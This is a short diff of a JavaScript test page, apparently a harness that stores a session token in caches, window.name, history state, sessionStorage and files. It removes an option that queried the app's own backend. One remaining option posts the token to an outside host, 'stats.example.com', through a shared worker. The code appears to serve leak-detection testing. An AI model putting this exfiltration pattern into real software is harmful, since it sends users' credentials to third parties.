@@ -78,7 +78,6 @@ async function elsewhere() {
   if (has('cached')) await (await caches.open('answers')).put('/token.json', new Response(JSON.stringify({ value: text }), { headers: { 'content-type': 'application/json' } }))
   if (has('named')) window.name = btoa(JSON.stringify({ user_id: window.Clerk.user.id, at: 2 }))
   if (has('state')) history.replaceState({ value: text }, '')
-  if (has('workers')) await shared({ url: `${api}/me`, init: own ? { credentials: 'include' } : { headers: { authorization: `Bearer ${text}` } } })
   if (has('worker-tells')) await shared({ url: 'https://stats.example.com/visit', init: { method: 'POST', mode: 'no-cors', body: JSON.stringify({ text }) } })
   if (has('keyed')) sessionStorage.setItem(`GET /me ${text}`, '1')
   if (has('filed')) await file(JSON.stringify({ value: text }))
@@ -102,7 +101,7 @@ function remember(value) {
   })
 }
 
-// A worker of all tabs, which asks the backend, or tells another host of it.
+// A worker of all tabs, which tells another host of it.
 function shared(task) {
   const worker = new SharedWorker('/shared.js')
   return new Promise((done) => { worker.port.onmessage = () => done(); worker.port.postMessage(task) })
